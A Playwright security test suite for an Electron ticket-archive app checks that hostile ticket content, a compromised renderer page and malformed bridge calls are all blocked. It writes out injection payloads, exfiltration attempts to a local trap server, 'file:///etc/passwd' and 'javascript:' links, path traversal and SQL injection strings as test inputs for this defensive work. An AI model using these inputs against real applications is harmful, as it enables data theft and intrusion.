import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { calls } from '../../src/contract/calls.ts';
import { defaultExportOptions } from '../../src/contract/export.ts';
import type { RunningApp } from '../../scripts/launch.ts';
import { fetchTicket } from '../support/driver.ts';
import { hostileMessages } from '../whmcs-simulator/phrases.ts';
import { expect, test } from './fixture.ts';

let trap: Server;
let hits: string[];
let trapAddress: string;

/** Receives everything that the app loads or sends on its own. */
test.beforeEach(async () => {
  hits = [];
  trap = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  trapAddress = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
});
test.afterEach(() => trap.close());

test('the page can access only the calls of the contract', async ({ connected: { page } }) => {
  const seen = await page.evaluate(() => ({
    bridge: Object.keys(window.threadkeep).sort(),
    node: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__deliver'].filter(
      (name) => name in window,
    ),
    bindings: Object.keys(window).filter((name) => name.startsWith('host')),
    frozen: Object.isFrozen(window.threadkeep),
    replaced: Reflect.set(window, 'threadkeep', {}),
  }));
  expect(seen).toEqual({
    bridge: [...Object.keys(calls), 'on'].sort(),
    node: [],
    bindings: [],
    frozen: true,
    replaced: false,
  });
});

test('a hostile message cannot run scripts or load resources', async ({ connected: { page }, simulator }) => {
  const ticket = structuredClone(simulator.source.byId(1));
  const pattern = ticket?.replies.reply[0];
  if (!ticket || !pattern) throw new Error('no ticket');
  const messages = [
    ...hostileMessages,
    `![x](${trapAddress}/pixel.gif) &lt;img src="${trapAddress}/img"&gt; &lt;link rel=stylesheet href="${trapAddress}/css"&gt;`,
    `&lt;style&gt;@import url(${trapAddress}/import)&lt;/style&gt; [x]: ${trapAddress}/ref &lt;iframe src="${trapAddress}/frame"&gt;`,
  ];
  const reply = messages.map((message, index) => ({
    ...pattern,
    replyid: String(index),
    message,
    requestor_name: message,
    name: message,
  }));
  simulator.source = {
    count: 1,
    byNumber: () => null,
    byId: () => ({
      ...ticket,
      subject: messages[0] ?? '',
      deptname: messages[0] ?? '',
      status: messages[0] ?? '',
      replies: { reply },
    }),
  };
  await fetchTicket(page, '1', 'Ticket ID 1');
  await expect(page.locator('section.message:not(.note)')).toHaveCount(messages.length);
  await expect(
    page
      .locator('article > :not([aria-label="Private notes and tags"])')
      .locator('script, img, iframe, style, link, base, form, input, svg, object, embed'),
  ).toHaveCount(0);
  expect(await page.evaluate(() => '__attacked' in window)).toBe(false);
  await onlyLastHit();
});

test('a compromised page cannot reach the network', async ({ connected: { page } }) => {
  const before = page.url();
  const outcome = await page.evaluate(async (address) => {
    const attempt = async (work: () => unknown): Promise<string> => {
      try {
        return String(await work());
      } catch (error) {
        return `blocked: ${(error as Error).name}`;
      }
    };
    const loads = (element: HTMLElement): Promise<string> =>
      new Promise((resolve) => {
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('blocked');
        document.body.append(element);
      });
    return {
      fetch: await attempt(() => fetch(`${address}/fetch`)),
      beacon: await attempt(() => navigator.sendBeacon(`${address}/beacon`) && 'blocked?'),
      image: await loads(Object.assign(new Image(), { src: `${address}/image` })),
      script: await attempt(() =>
        loads(Object.assign(document.createElement('script'), { src: `${address}/script` })),
      ),
      socket: await attempt(
        () =>
          new Promise(
            (resolve) => (new WebSocket(address.replace('http', 'ws')).onerror = () => resolve('blocked')),
          ),
      ),
      eval: await attempt(() => eval('1 + 1') as number),
      html: await attempt(() => ((document.createElement('div').innerHTML = '<b>'), 'set')),
      opened: await attempt(() => String(window.open(`${address}/open`))),
      worker: await attempt(() => String(new Worker(URL.createObjectURL(new Blob(['1']))))),
      notify: await attempt(() => Notification.requestPermission()),
      place: await attempt(
        () =>
          new Promise((resolve) =>
            navigator.geolocation.getCurrentPosition(
              () => resolve('given'),
              () => resolve('denied'),
            ),
          ),
      ),
      upward: await loads(Object.assign(new Image(), { src: '/%2e%2e/%2e%2e/package.json' })),
    };
  }, trapAddress);
  expect(outcome).toMatchObject({
    image: 'blocked',
    html: 'blocked: TypeError',
    notify: 'denied',
    place: 'denied',
    upward: 'blocked',
  });
  expect(outcome.fetch).toContain('blocked');
  expect(outcome.eval).toContain('blocked');
  expect(outcome.script).toContain('blocked');
  expect(outcome.socket).toContain('blocked');

  for (const go of [
    `location.href = '${trapAddress}/go'`,
    `location.href = 'data:text/html,x'`,
    `document.body.append(Object.assign(document.createElement('a'), { href: '${trapAddress}/link', target: '_blank', id: 'away' })); document.getElementById('away').click()`,
  ]) {
    await page.evaluate(go);
  }
  await fetchTicket(page, '2', 'Ticket ID 2');
  expect(page.url()).toBe(before);
  expect(page.context().pages()).toHaveLength(1);
  await onlyLastHit();
});

/** Sends a request to the trap. Whatever the app sent before arrives first. */
async function onlyLastHit(): Promise<void> {
  await fetch(`${trapAddress}/last`);
  expect(hits).toEqual(['/last']);
}

test('a compromised page cannot start a download', async ({ connected: { page }, host }) => {
  test.skip(host !== 'chromium', 'Electron cancels before there is anything that Playwright could see.');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.evaluate(() => {
      const href = URL.createObjectURL(new Blob(['ticket text']));
      const link = Object.assign(document.createElement('a'), { href, download: 'invoice.exe' });
      document.body.append(link);
      link.click();
    }),
  ]);
  expect(await download.failure()).toBeTruthy();
});

test.describe('calls from a compromised page', () => {
  /** Makes a call whose outcome is checked later. */
  const attack = (page: Page, name: 'testConnection' | 'saveConnection'): Promise<unknown> =>
    page.evaluate(
      async ([call, address]) =>
        window.threadkeep[call]({
          id: null,
          name: '',
          color: '#000000',
          address,
          credentialKind: 'api',
          identifier: 'STOLEN-TICKET-TEXT',
          secret: 'MORE-STOLEN-TEXT',
          accessKey: '',
          timeZone: 'UTC',
          allowInsecure: true,
        }),
      [name, trapAddress] as const,
    );

  test('a new server is not contacted until the user confirms it', async ({ connected }) => {
    const { page } = connected;
    await connected.answerConfirmations('later');
    const before = (await connected.confirmations()).length;
    const first = attack(page, 'testConnection');
    await expect.poll(async () => (await connected.confirmations()).slice(before)).toHaveLength(1);
    expect((await connected.confirmations())[before]).toContain(`Connect to ${trapAddress}?`);
    expect(await attack(page, 'saveConnection')).toMatchObject({
      ok: false,
      failure: { code: 'dialog-open' },
    });
    await connected.answerConfirmations('no');
    expect(await first).toMatchObject({ ok: false, failure: { code: 'cancelled' } });
    expect(await attack(page, 'saveConnection')).toMatchObject({ ok: false, failure: { code: 'cancelled' } });
    await onlyLastHit();
    const state = await page.evaluate(() => window.threadkeep.getState({}));
    expect(state).toMatchObject({ ok: true, value: { connections: [{ id: 1 }] } });

    await connected.answerConfirmations('yes');
    await attack(page, 'testConnection');
    expect(hits.length).toBeGreaterThan(1);
    const asked = (await connected.confirmations()).length;
    await attack(page, 'testConnection');
    expect(await connected.confirmations()).toHaveLength(asked);
  });

  test('the first link to a host needs confirmation, which is remembered after a restart', async ({
    connected,
    launch,
  }) => {
    const open = (app: RunningApp, url: string): Promise<unknown> =>
      app.page.evaluate((link) => window.threadkeep.openLink({ url: link }), url);
    const before = (await connected.confirmations()).length;
    await connected.answerConfirmations('no');
    expect(await open(connected, 'https://new.example/?q=ticket-text')).toMatchObject({
      failure: { code: 'cancelled' },
    });
    expect((await connected.confirmations())[before]).toContain(
      'Open a page on new.example?\nhttps://new.example/?q=ticket-text\n',
    );
    await connected.answerConfirmations('yes');
    await open(connected, 'https://new.example/a');
    await connected.answerConfirmations('no');
    await open(connected, 'https://new.example/b');
    await expect
      .poll(() => connected.openedExternally())
      .toEqual(['https://new.example/a', 'https://new.example/b']);
    await connected.close();

    const again = await launch();
    await again.answerConfirmations('no');
    await expect(again.page.getByRole('status').getByText('Online')).toBeVisible();
    expect(await open(again, 'https://new.example/c')).toMatchObject({ ok: true });
    expect(await again.confirmations()).toEqual([]);
  });
});

test('main rejects calls that do not match the contract', async ({ connected: { page } }) => {
  const outcomes = await page.evaluate(async (options) => {
    const call = window.threadkeep as unknown as Record<
      string,
      (args: unknown) => Promise<{ ok: boolean; failure?: { code: string; message: string } }>
    >;
    const bad: [string, unknown][] = [
      ['openLink', { url: 'file:///etc/passwd' }],
      ['openLink', { url: 'javascript:alert(1)' }],
      ['openLink', { url: 'smb://evil/x' }],
      ['openLink', { url: `https://evil.example/${'x'.repeat(2000)}` }],
      ['openThread', { key: "1' OR 1=1", revision: null }],
      ['openThread', { key: 999_999, revision: null }],
      [
        'startExport',
        { selection: { kind: 'ticket', key: 1, revision: null }, options: { ...options, paper: '/etc' } },
      ],
      ['startExport', { selection: { kind: 'tickets', keys: [0] }, options }],
      ['previewExport', { selection: { kind: 'client', connectionId: 1, userId: 0 }, options }],
      ['copyMessages', { key: 1, revision: null, positions: [-1] }],
      ['openExport', { id: '/etc/passwd' }],
      ['renderMessages', { key: 1, revision: null, positions: Array.from({ length: 5000 }, (_, i) => i) }],
      ['search', { text: '', filters: {}, sort: 'best', sql: 'DROP' }],
      ['startSync', { connectionId: 1, kind: 'everything' }],
      ['readFile', { key: 1, revision: 1, position: -1, at: 0 }],
      ['getState', 'x'],
    ];
    return Promise.all(bad.map(async ([name, args]) => (await call[name]?.(args))?.failure));
  }, defaultExportOptions);
  expect(outcomes.map((failure) => failure?.code)).toEqual([
    'bad-link',
    'bad-link',
    'bad-link',
    'bad-link',
    'invalid-argument',
    'not-in-vault',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
    'invalid-argument',
  ]);
  expect(JSON.stringify(outcomes)).not.toMatch(/\bat .*\.js:|node_modules|Error:/);
});
